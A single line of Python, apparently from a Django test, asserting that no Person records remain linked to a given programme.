    assert not Person.objects.filter(programme=programme).exists()
